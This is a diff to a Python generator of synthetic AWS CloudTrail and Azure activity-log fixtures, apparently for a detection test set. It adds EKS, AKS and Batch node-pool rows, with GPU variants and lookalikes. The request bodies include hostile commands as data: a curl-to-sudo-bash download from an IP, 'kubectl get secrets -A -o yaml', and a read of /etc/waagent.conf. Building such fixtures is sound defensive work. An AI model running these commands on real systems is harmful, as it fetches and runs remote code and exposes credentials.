@@ -240,7 +240,7 @@ class Ctx:
                    "ec2-instance-connect": "ec2instanceconnect#1.25.3", "ebs": "ebs#1.26.3",
                    "dlm": "dlm#1.28.3", "backup": "backup#1.30.0",
                    "autoscaling": "autoscaling#1.48.0", "workspaces": "workspaces#1.47.3",
-                   "lightsail": "lightsail#1.42.3"}[service]
+                   "lightsail": "lightsail#1.42.3", "eks": "eks#1.51.1"}[service]
             return ("APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.72.1 "
                     "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.32.2 ua/2.1 os/linux "
                     f"lang/go#1.23.2 md/GOOS#linux md/GOARCH#amd64 api/{api}")
@@ -257,7 +257,7 @@ class Ctx:
 
 EVENT_VERSION = {"ec2": "1.10", "rds": "1.08", "rbin": "1.08", "ec2-instance-connect": "1.08", "ebs": "1.09",
                  "dlm": "1.09", "backup": "1.08", "autoscaling": "1.09", "workspaces": "1.08",
-                 "lightsail": "1.08"}
+                 "lightsail": "1.08", "eks": "1.09"}
 
 
 def ct_record(ctx: Ctx, service: str, name: str, req, resp, error: tuple[str, str] | None = None) -> dict:
@@ -331,7 +331,7 @@ def auth_error(ctx: Ctx, service: str, name: str, resource_arn: str) -> tuple[st
                 f"You are not authorized to perform this operation. User: {ctx.arn()} is not authorized to perform: "
                 f"{action} on resource: {resource_arn} because no identity-based policy allows the {action} action. "
                 f"Encoded authorization failure message: {b64url('encoded', ctx.key, n=380)}")
-    if service == "lightsail":
+    if service in ("lightsail", "eks"):
         return ("AccessDeniedException",
                 f"User: {ctx.arn()} is not authorized to perform: {action} on resource: {resource_arn} "
                 f"because no identity-based policy allows the {action} action")
@@ -1613,6 +1613,28 @@ def pascal(v):
     return [pascal(x) for x in v] if isinstance(v, list) else v
 
 
+def b_eks_nodegroup(ctx, row, look):
+    """An EKS managed node group created (the GPU row's `look`: a general-purpose type)."""
+    gpu = row.endswith("_gpu") and not look
+    name, itype = ("ml-training", "g5.12xlarge") if gpu else ("apps-m6i", "m6i.xlarge")
+    ami = "AL2023_x86_64_NVIDIA" if gpu else "AL2023_x86_64_STANDARD"
+    cluster = "eks-prod"
+    role = f"arn:aws:iam::{OWN}:role/eks-node-role"
+    subnets = [rid("subnet", "eks-a"), rid("subnet", "eks-b")]
+    scaling = {"minSize": 2, "maxSize": 6, "desiredSize": 2}
+    req = {"clusterName": cluster, "nodegroupName": name, "scalingConfig": scaling, "diskSize": 100,
+           "subnets": subnets, "instanceTypes": [itype], "amiType": ami, "nodeRole": role,
+           "capacityType": "ON_DEMAND", "clientRequestToken": uid(ctx.key, "token")}
+    arn = f"arn:aws:eks:{ctx.region}:{OWN}:nodegroup/{cluster}/{name}/{uid(ctx.key, 'ng')}"
+    resp = {"nodegroup": {"nodegroupName": name, "nodegroupArn": arn, "clusterName": cluster, "version": "1.31",
+                          "releaseVersion": "1.31.2-20261104", "createdAt": ts(ctx.t), "modifiedAt": ts(ctx.t),
+                          "status": "CREATING", "capacityType": "ON_DEMAND", "scalingConfig": scaling,
+                          "instanceTypes": [itype], "subnets": subnets, "amiType": ami, "nodeRole": role,
+                          "diskSize": 100, "health": {"issues": []}, "updateConfig": {"maxUnavailable": 1},
+                          "tags": {}}}
+    return "eks", "CreateNodegroup", req, resp, f"arn:aws:eks:{ctx.region}:{OWN}:cluster/{cluster}"
+
+
 RUNNING, PENDING, STOPPING, STOPPED, SHUTTING = (16, "running"), (0, "pending"), (64, "stopping"), (80, "stopped"), (32, "shutting-down")
 
 AWS_BUILDERS = {
@@ -1708,6 +1730,8 @@ AWS_BUILDERS = {
     "aws.lightsail.delete_disk": b_ls_delete_disk,
     "aws.lightsail.auto_snapshots_disabled": b_ls_disable_add_on,
     "aws.lightsail.imds_v1_enabled": b_ls_imds,
+    "aws.eks.create_nodegroup_gpu": b_eks_nodegroup,
+    "aws.eks.create_nodegroup": b_eks_nodegroup,
     "aws.ec2.disable_image": b_disable_image,
     "aws.backup.start_restore_job": b_backup_restore,
     "aws.backup.delete_recovery_point": b_backup_delete_point,
@@ -2273,9 +2297,28 @@ def asr_failover_body(test: bool):
     return {"properties": props}
 
 
+AKS = "Microsoft.ContainerService/managedClusters/aks-prod-weu"
+BATCH = "Microsoft.Batch/batchAccounts/batchprodweu"
+
+
+def aks_pool_body(size: str) -> dict:
+    return {"properties": {"count": 3, "vmSize": size, "osDiskSizeGB": 128, "osType": "Linux", "mode": "User",
+                           "type": "VirtualMachineScaleSets", "orchestratorVersion": "1.31.2",
+                           "enableAutoScaling": False, "maxPods": 110}}
+
+
+def batch_pool_body(size: str) -> dict:
+    return {"properties": {"vmSize": size, "deploymentConfiguration": {"virtualMachineConfiguration": {
+        "imageReference": {"publisher": "canonical", "offer": "0001-com-ubuntu-server-jammy", "sku": "22_04-lts",
+                           "version": "latest"},
+        "nodeAgentSkuId": "batch.node.ubuntu 22.04"}},
+        "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 4, "targetLowPriorityNodes": 0}}}}
+
+
 def az_spec(row_id: str):
     """(resource group, resource path under Microsoft.Compute, request body, phases, failure)."""
     rg_web, rg_data, rg_build, rg_batch, rg_sec = "rg-prod-web", "rg-prod-data", "rg-build", "rg-batch", "rg-security"
+    rg_aks = "rg-aks-prod"
     snap_src = f"/subscriptions/{SUB}/resourceGroups/{rg_data}/providers/Microsoft.Compute/disks/{DISK_OS}"
     locked = lambda rg: ("Conflict", "ScopeLocked",  # noqa: E731
                          f"The scope '/subscriptions/{SUB}/resourceGroups/{rg}' cannot perform delete operation because following scope(s) are locked: '/subscriptions/{SUB}/resourceGroups/{rg}'. Please remove the lock and try again.")
@@ -2421,6 +2464,15 @@ def az_spec(row_id: str):
         "azure.compute.vm_run_command": (rg_web, "virtualMachines/vm-web-01",
                                          {"commandId": "RunShellScript", "script": ["curl -fsSL http://203.0.113.50/u.sh | sudo bash"]},
                                          "lro", conflict("Conflict", "Run command extension execution is in progress. Please wait for completion before invoking a run command.")),
+        "azure.aks.run_command": (rg_aks, f"{AKS}",
+                                  {"command": "kubectl get secrets -A -o yaml", "context": "", "clusterToken": "***"},
+                                  "lro", conflict("OperationNotAllowed", "Operation is not allowed because the managed cluster aks-prod-weu is stopped.")),
+        "azure.aks.agent_pool_write_gpu": (rg_aks, f"{AKS}/agentPools/gpu1", aks_pool_body("Standard_NC24ads_A100_v4"), "lro", None),
+        "azure.aks.agent_pool_write": (rg_aks, f"{AKS}/agentPools/apps", aks_pool_body("Standard_D8s_v5"), "lro",
+                                       conflict("OperationNotAllowed", "Operation could not be completed as it results in exceeding approved standardDSv5Family Cores quota. Additional details - Deployment Model: Resource Manager, Location: westeurope, Current Limit: 100, Current Usage: 96, Additional Required: 32, (Minimum) New Limit Required: 128.")),
+        "azure.batch.pool_write_gpu": (rg_batch, f"{BATCH}/pools/render-gpu", batch_pool_body("STANDARD_NC24ADS_A100_V4"), "sync_created", None),
+        "azure.batch.pool_write": (rg_batch, f"{BATCH}/pools/route-sim", batch_pool_body("STANDARD_D16S_V5"), "sync_created",
+                                   conflict("AccountVmSizeQuotaReached", "The specified account has reached VM size quota for Standard DSv5 Family.")),
         "azure.compute.vm_managed_run_command_write": (rg_web, "virtualMachines/vm-web-02/runCommands/rc-maintenance",
                                                        {"location": "westeurope", "properties": {"source": {"script": "id; cat /etc/waagent.conf"},
                                                                                                  "asyncExecution": False, "timeoutInSeconds": 3600}},
@@ -2487,6 +2539,10 @@ def az_lookalike_body(row_id: str):
         return {**body, "properties": {"creationData": {"createOption": "Empty"}, "diskSizeGB": 64}}
     if row_id == "azure.compute.vmss_write_gpu":
         return {**body, "sku": {**body["sku"], "name": "Standard_D16s_v5"}}
+    if row_id == "azure.aks.agent_pool_write_gpu":
+        return aks_pool_body("Standard_D16s_v5")
+    if row_id == "azure.batch.pool_write_gpu":
+        return batch_pool_body("STANDARD_D16S_V5")
     src = body["properties"]["creationData"]["sourceResourceId"].replace(SUB_PEER, SUB)
     return {**body, "properties": {**body["properties"],
                                    "creationData": {**body["properties"]["creationData"], "sourceResourceId": src}}}
@@ -2544,6 +2600,12 @@ NOVEMBER_AZ_ROWS = {"azure.compute.vm_write_user_data"}
 NOVEMBER_MOUNT_ROWS = {"azure.compute.vm_write_data_disk"}
 # The fiftieth session's Lightsail rows August, which no other AWS fixture uses.
 LIGHTSAIL_ROWS = {k for k in AWS_BUILDERS if k.startswith("aws.lightsail.")}
+# The fifty-second session's node pools (EKS, AKS, Batch) and AKS run command: November's 10th
+# to 17th (AWS) and 3rd to 12th (Azure), between the late rows' and the scenarios' days.
+NODE_POOL_AWS_ROWS = {"aws.eks.create_nodegroup_gpu", "aws.eks.create_nodegroup"}
+NODE_POOL_AZ_ROWS = {"azure.aks.run_command", "azure.aks.agent_pool_write_gpu", "azure.aks.agent_pool_write",
+                     "azure.batch.pool_write_gpu", "azure.batch.pool_write"}
+NODE_POOL_AZ_GPU_ROWS = {"azure.aks.agent_pool_write_gpu", "azure.batch.pool_write_gpu"}
 
 
 def az_success_phases(op: AzOp, phases: str, body, vm_resp=None) -> list[dict]:
@@ -2591,7 +2653,7 @@ def azure_op_records(key: str, row_op: str, cname: str, t: dt.datetime, style: s
 # ------------------------------------------------------------------------------------------------
 
 def gen_fixtures(catalog: list[dict]) -> dict:
-    later = GAP_ROWS | AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | LATE_ROWS | EBS_DIRECT_ROWS | JUNE_ROWS | JULY_ROWS | MAY_ROWS | APRIL_ROWS | MARCH_ROWS | FEBRUARY_ROWS | JANUARY_ROWS | DECEMBER_ROWS | DECEMBER_AZ_ROWS | NOVEMBER_AZ_ROWS | NOVEMBER_MOUNT_ROWS | LIGHTSAIL_ROWS
+    later = GAP_ROWS | AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | LATE_ROWS | EBS_DIRECT_ROWS | JUNE_ROWS | JULY_ROWS | MAY_ROWS | APRIL_ROWS | MARCH_ROWS | FEBRUARY_ROWS | JANUARY_ROWS | DECEMBER_ROWS | DECEMBER_AZ_ROWS | NOVEMBER_AZ_ROWS | NOVEMBER_MOUNT_ROWS | LIGHTSAIL_ROWS | NODE_POOL_AWS_ROWS | NODE_POOL_AZ_ROWS
     built = gen_fixtures_month([r for r in catalog if r["id"] not in later], 10)
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in GAP_ROWS], 9))
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in AZ_LOOKALIKE_ROWS], 8))
@@ -2609,6 +2671,8 @@ def gen_fixtures(catalog: list[dict]) -> dict:
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in NOVEMBER_AZ_ROWS], 11, first=29, days=2))
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in NOVEMBER_MOUNT_ROWS], 11, first=27, days=2))
     built.update(gen_fixtures_month([r for r in catalog if r["id"] in LIGHTSAIL_ROWS], 8))
+    built.update(gen_fixtures_month([r for r in catalog if r["id"] in NODE_POOL_AWS_ROWS], 11, first=10, days=8))
+    built.update(gen_fixtures_month([r for r in catalog if r["id"] in NODE_POOL_AZ_ROWS], 11, first=3, days=10))
     return built
 
 
@@ -2653,7 +2717,7 @@ def gen_fixtures_month(catalog: list[dict], month: int, first: int = 1, days: in
         style = "new" if k % 3 != 1 else "old"
         rg, res, body, phases, failure = az_spec(row["id"])
         op_name = row["operation"]
-        if is_neg and row["id"] in AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | DECEMBER_AZ_ROWS | NOVEMBER_AZ_ROWS | NOVEMBER_MOUNT_ROWS:
+        if is_neg and row["id"] in AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | DECEMBER_AZ_ROWS | NOVEMBER_AZ_ROWS | NOVEMBER_MOUNT_ROWS | NODE_POOL_AZ_GPU_ROWS:
             recs = azure_op_records(path, op_name, cname, t, style, rg, res, az_lookalike_body(row["id"]), phases)
         elif is_neg and row["id"] == "azure.compute.disk_sas_export":
             # endGetAccess: a successful revocation of the disk SAS (not in the catalog)
